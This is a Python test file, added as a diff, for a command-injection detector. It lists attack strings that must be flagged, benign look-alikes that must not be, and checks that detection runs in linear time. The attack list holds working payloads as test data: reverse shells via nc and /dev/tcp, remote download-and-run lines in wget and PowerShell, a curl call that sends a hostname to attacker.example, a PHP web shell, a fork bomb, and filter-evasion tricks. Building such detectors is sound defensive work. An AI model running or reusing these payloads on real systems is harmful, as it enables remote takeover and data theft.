@@ -1,0 +1,330 @@
+"""The command-injection detector: shell structure decides, not payload lists.
+
+Attacks of each structure and evasion must be found, benign look-alikes (prose about
+commands, CI steps, package scripts, user agents, markdown, SQL, ssh keys...) must
+not, and adversarial runs must stay linear (asserted structurally, never by time).
+All strings here are written for these tests.
+"""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+
+from protect_lambda.detectors import shell
+from protect_lambda.engine import check_pattern
+from protect_lambda.normalize import normalize
+
+KINDS = {
+    "command-after-separator", "substitution", "redirection", "evasion", "windows-command",
+    "powershell", "shellshock", "code-exec", "command-line", "windows-batch", "mail-command",
+}
+
+
+def kinds(raw: str) -> set[str]:
+    """The kinds the detector reports for a raw (not yet normalised) value."""
+    text = normalize(raw)
+    spans = shell.detect(text)
+    for kind, start, end in spans:
+        assert kind in KINDS
+        assert 0 <= start < end <= len(text)
+    return {kind for kind, _, _ in spans}
+
+
+# --- attacks, by structure -----------------------------------------------------------
+
+@pytest.mark.parametrize(
+    ("raw", "kind"),
+    [
+        # a command after a separator, the value starting like a parameter
+        ("10.0.0.7; cat /etc/hosts", "command-after-separator"),
+        ("10.0.0.7 && whoami", "command-after-separator"),
+        ("10.0.0.7 | id", "command-after-separator"),
+        ("q|id", "command-after-separator"),
+        ("q;id;", "command-after-separator"),
+        ("q || uname -a", "command-after-separator"),
+        ("abc%0Aid", "command-after-separator"),  # encoded newline
+        ("abc%0D%0Auname%20-a", "command-after-separator"),
+        ("abc\\nid", "command-after-separator"),  # the two characters \n
+        ("\"; ls -la /var", "command-after-separator"),  # closing the caller's quote
+        ("'; nc 10.1.2.3 9001 -e /bin/sh; '", "command-after-separator"),
+        ("b);/usr/bin/id", "command-after-separator"),
+        ("name=bob;sleep 20", "command-after-separator"),
+        (";env", "command-after-separator"),
+        ("k=v&&ping -c 9 10.0.0.9", "command-after-separator"),
+        ("img.png;$v cat notes.txt", "command-after-separator"),  # an unset variable vanishes
+        ("p=/srv&&q=ls&&$q $p", "command-after-separator"),  # a variable as the command
+        ("page; wget http://198.51.100.4/x -O /tmp/x", "command-after-separator"),
+        ("x; curl attacker.example/$(hostname)", "command-after-separator"),
+        ("x;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.9.8.7 1234 >/tmp/f",
+         "command-after-separator"),
+        ("1;.shell whoami", "command-after-separator"),  # sqlite3 dot-command
+        # substitutions
+        ("$(whoami)", "substitution"),
+        ("`uname -a`", "substitution"),
+        ("v1`id`v2", "substitution"),
+        ("zz$(sleep 9)zz", "substitution"),
+        ("<(cat /etc/hosts)", "substitution"),
+        (">(curl http://198.51.100.4)", "substitution"),
+        ("$((7*6))", "substitution"),
+        # redirections
+        ("a;bash -i >& /dev/tcp/198.51.100.4/4444 0>&1", "redirection"),
+        ("& echo '<?php passthru($_GET[x]); ?>' > sh3ll.php", "redirection"),
+        # windows
+        ("& dir c:\\", "windows-command"),
+        ("| type c:\\windows\\win.ini", "windows-command"),
+        ("&& net user", "windows-command"),
+        ("x & ipconfig /all", "windows-command"),
+        ("| reg query hklm\\software\\microsoft", "windows-command"),
+        ("cmd /c whoami", "command-line"),
+        ("for /f \"tokens=1\" %%q in ('whoami') do echo %%q", "windows-batch"),
+        ("& for %z in (1,2) do calc", "windows-batch"),
+        ("if exist c:\\boot.ini type c:\\boot.ini", "windows-batch"),
+        ("if \"%os%\"==\"windows_nt\" echo pwned", "windows-batch"),
+        ("if /i not 3 gtr 2 echo yes", "windows-batch"),
+        # powershell
+        ("; powershell -enc SQBFAFgA", "powershell"),
+        ("iex (new-object net.webclient).downloadstring('http://198.51.100.4/a')", "powershell"),
+        ("invoke-webrequest http://198.51.100.4/a.ps1 -outfile a.ps1", "powershell"),
+        ("<a probe=\"invoke-webrequest http://198.51.100.4/a.ps1\"/>", "powershell"),
+        # shellshock, fork bombs
+        ("() { :; }; /bin/cat /etc/hosts", "shellshock"),
+        ("() {", "shellshock"),
+        ("bomb(){ bomb|bomb& };bomb", "shellshock"),
+        # code handing a string to a shell
+        ("system('id');", "code-exec"),
+        ("<?php passthru($_GET['c']); ?>", "code-exec"),
+        ("exec('sleep 9')", "code-exec"),
+        ("eval('whoami')", "code-exec"),
+        ("obj.exec(\"ls -la /\")", "code-exec"),
+        ("%x(ls -la /)", "code-exec"),
+        ("<!--#exec cmd=\"ls\" -->", "code-exec"),
+        ("{${sleep(9)}}", "code-exec"),
+        # the whole value is a command line
+        ("uname", "command-line"),
+        ("ipconfig /all", "command-line"),
+        ("cat /etc/hosts", "command-line"),
+        ("ls -l /var/tmp", "command-line"),
+        ("ping -c 9 10.0.0.9", "command-line"),
+        ("sleep 20", "command-line"),
+        ("perl -e 'print 1'", "command-line"),
+        ("bash -c 'id'", "command-line"),
+        ("curl example.org", "command-line"),
+        ("which nc", "command-line"),
+        ("sudo uname -r", "command-line"),
+        ("nohup whoami | sh", "command-line"),
+        ("printf aWQ=|base64 -d|sh", "command-line"),
+        ("~+", "command-line"),
+        ("!-2", "command-line"),
+        # mail protocols after CR LF
+        ("\r\nrcpt to: <root@localhost>", "mail-command"),
+        ("x\r\nhelo attacker.example\r\n", "mail-command"),
+        ("\r\nb07 select inbox", "mail-command"),
+    ],
+)
+def test_attack_structures(raw: str, kind: str) -> None:
+    assert kind in kinds(raw)
+
+
+@pytest.mark.parametrize(
+    "raw",
+    [
+        ";w'h'o'am'i",  # quotes inside a word
+        ";w\"ho\"ami",
+        ";w\\hoami",  # backslash escapes
+        "\\ls",
+        ";c$@at /etc/hosts",  # $@ and empty variables
+        "u$1name -a",
+        "q;c$()at /etc/hosts",  # empty substitutions
+        "ping`` 10.0.0.9",
+        ";cat${IFS}/etc/passwd",  # $IFS as a blank
+        ";cat$IFS$9/etc/passwd",
+        ";/???/c?t /e??/passwd",  # globs
+        "/bi[n]/s[h]",
+        "/etc/pa[s]swd",
+        "{cat,/etc/passwd}",  # brace expansion
+        "{,ifconfig}",
+        ";{ls,-la,/}",
+        "/usr/bin/id",  # absolute paths
+        "\n/bin/sh",
+        "'i'fconfig",
+        "\"w\"get evil.example",
+        "x;${PATH:0:1}bin${PATH:0:1}sh",  # parameter expansion
+        "%60id%60",  # URL-encoded backticks
+        "q%3Bid",  # URL-encoded separator
+        "&#x3b;id",  # HTML-encoded separator
+        "\\u0060id\\u0060",  # JS-escaped backticks
+        "x;\\033[2Awget http://198.51.100.4/x",  # a terminal escape before the command
+    ],
+)
+def test_evasions_are_seen_through(raw: str) -> None:
+    assert kinds(raw), raw
+
+
+def test_spans_point_at_the_command() -> None:
+    text = "127.0.0.1; cat /etc/passwd"
+    [(kind, start, end)] = shell.detect(text)
+    assert (kind, text[start:end]) == ("command-after-separator", "cat /etc/passwd")
+    [(kind, start, end)] = shell.detect("x|id")
+    assert (kind, start, end) == ("command-after-separator", 2, 4)
+
+
+def test_lexer_sees_shell_words() -> None:
+    words = [w.text for w in shell.lex("w'h'o$@ami;c\\at${ifs}/e??/pa[s]swd") if
+             isinstance(w, shell.Word)]
+    assert words == ["whoami", "cat", "/e??/pa[s]swd"]
+    braces = [w.text for w in shell.lex("{l,-lh}s") if isinstance(w, shell.Word)]
+    assert braces == ["ls", "-lhs"]
+
+
+# --- benign look-alikes ------------------------------------------------------------
+
+BENIGN = [
+    # prose and UI strings that mention commands
+    "run `npm test` && deploy",
+    "echo is a command",
+    "sudo make me a sandwich",
+    "Use exec() or eval()",
+    "1. blixen. 2. comet. 3. vixen.",
+    "Type `whoami` to see who you are.",
+    "The `ls` command lists files; `cat` prints them.",
+    "wget and curl are download tools",
+    "I'd like to order a pizza",
+    "Tom & Jerry | Terms & Conditions",
+    "Find & Replace | Go to line",
+    "Copy | Paste | Cut",
+    "Time to go; see you later",
+    "a hero; more than a legend",
+    "Date: %(date)s | Time: %(time)s",
+    "Set up your account",
+    "Please enter your id",
+    "if defined by the user, the value wins",
+    "Kill switch enabled; restart required",
+    "date",
+    "test",
+    "wget",
+    "~5 minutes",
+    # CI workflow step names
+    "run git diff --exit-code || bash -c \\",
+    "Run echo \"dir=$(yarn cache dir)\" >> $GITHUB_OUTPUT",
+    "Run docker build -t app:$(git rev-parse --short HEAD) .",
+    "Run if [ -f requirements.txt ]; then pip install -r requirements.txt; fi",
+    "Run rm -rf ~/.cache && mkdir -p /tmp/build",
+    "Run sudo apt-get update && sudo apt-get install -y libpq-dev",
+    "Run make test || (cat test.log; exit 1)",
+    "Set up job",
+    # package scripts and install commands
+    "echo \"error: no test specified\" && exit 1",
+    "rm -rf dist && tsc",
+    "cp -r src dist",
+    "npm run build && npm test",
+    "npm install @scope/pkg@1.0.0",
+    "sh ./scripts/build.sh",
+    "git+https://github.com/example/repo.git",
+    # keys, user agents, URLs, headers
+    "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQC+abc/def+ghi user@laptop",
+    "Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0) like Gecko",
+    "Mozilla/5.0 (Linux; Android 6.0; dash g build/mra58k) AppleWebKit/537.36",
+    "Mozilla/5.0 (compatible; MSIE 10.0; Windows NT 6.2; WOW64; Trident/6.0; Touch)",
+    "Mozilla/5.0 (compatible; uptime/1.0; http://uptime.example)",
+    "cc metadata scraper http://wiki.example.org/scraper",
+    "curl/8.4.0",
+    "https://example.com/search?q=cat&sort=date&dir=asc",
+    "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
+    "session=abc123; Path=/; Secure; HttpOnly",
+    "order[filters][date_add][from]",
+    "a[constructor][prototype]",
+    # markdown, code, SQL, data
+    "```\nnpm install --save my-package\n```",
+    "## Install\n\n```bash\npip install foo\n```",
+    "const cp = require('child_process');\ncp.exec('ls', cb);",
+    "$(document).ready(function() { $('#x').show(); });",
+    "var url = `${base}/api/${id}`;",
+    "if (a == b) { c(); }",
+    "if x == 1: print(x)",
+    "try { eval(code); } catch (e) {}",
+    "SELECT `id`, `date` FROM `users` WHERE `type` = 'admin';",
+    "{\n  id\n  name\n  email\n}",
+    "{\"id\": 1, \"name\": \"x\"}",
+    "myfunction(){ echo hello }",
+    "<b>bold</b> & <i>italic</i> > plain",
+    "price: $5; tax: $1",
+    "red;$5 each",
+    "hello\r\ndata\r\nworld",
+    "Steps:\r\n1 select the file\r\n2 copy it",
+]
+
+
+@pytest.mark.parametrize("raw", BENIGN)
+def test_benign_lookalikes_are_clean(raw: str) -> None:
+    assert shell.detect(normalize(raw)) == [], raw
+
+
+def test_plain_values_skip_the_lexer(monkeypatch: pytest.MonkeyPatch) -> None:
+    """Most values (words, prose without operators) cost a few ``in`` tests."""
+
+    def boom(text: str) -> list[shell.Word | shell.Op]:
+        raise AssertionError("lexed " + text)
+
+    monkeypatch.setattr(shell, "lex", boom)
+    for text in ("hello world", "1234abcd", "john.doe@example.com", "https://example.com/a/b",
+                 "ihre kleine schwester", "express delivery", "ls-5017"):
+        assert shell.detect(text) == []
+
+
+# --- linear time -----------------------------------------------------------------------
+
+def test_regexes_have_no_nested_quantifiers() -> None:
+    regexes = [v for v in vars(shell).values() if isinstance(v, (re.Pattern, shell._Lazy))]
+    assert len(regexes) >= 20
+    for rx in regexes:
+        assert check_pattern(rx.pattern) is None, rx.pattern
+    # the glob translation builds patterns of single, bounded repeats too
+    glob = shell._glob_regex("/u*r/b?n/c[a]t*")
+    assert glob is not None and check_pattern(glob.pattern) is None
+
+
+RUNS = [
+    "'", '"', "\\", "$(", "`", ";", "; ", "|", "&&", "||", "&", "\n", "\\n", "${", "${ifs}",
+    "{", "}", "{a,", "[", "?", "/???/", "(", ")", "() {", ":(){ :|", "if ", "for %a in (",
+    "<", ">", "2>&1", "<(", "~", "!-1", "\r\n", "\r\na1 list ", "exec('", "system('",
+    ".exec('ls", "%x(", "{${", "echo x > a.php ", "x;id", ";id ", "`id`", "$(id)", "w'h'o",
+    "sudo ", "\\033[2a", "c:\\n", "iex(", "$((", "${a#", "/bin/c[a]t ", "{cat,/etc/passwd}",
+]
+
+
+@pytest.mark.parametrize("unit", RUNS)
+@pytest.mark.parametrize("size", [10_000, 100_000])
+def test_adversarial_runs_finish(unit: str, size: int) -> None:
+    text = (unit * (size // len(unit) + 1))[:size]
+    spans = shell.detect(text)
+    assert len(spans) <= shell.MAX_SPANS
+    # structural linearity: every token consumes at least one character
+    assert len(shell.lex(text)) <= len(text)
+
+
+def test_attack_at_the_end_of_a_long_run_is_found() -> None:
+    text = "a" * 100_000 + ";cat /etc/passwd"
+    assert "command-after-separator" in kinds(text)
+    text = "; " * 50_000 + "x;id"
+    assert shell.detect(text)
+
+
+def test_glob_lookups_are_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
+    calls = []
+    real = shell._glob_regex
+
+    def counting(pattern: str) -> re.Pattern[str] | None:
+        calls.append(pattern)
+        return real(pattern)
+
+    monkeypatch.setattr(shell, "_glob_regex", counting)
+    text = " ".join(f"/b?{i}/c?t{i}" for i in range(5000))
+    shell.detect(text)
+    assert len(calls) <= shell.GLOB_SEARCHES
+
+
+def test_brace_expansion_is_bounded() -> None:
+    words = [w for w in shell.lex("{" + "a," * 50_000 + "}") if isinstance(w, shell.Word)]
+    assert len(words) == 1  # too big to expand: one literal word
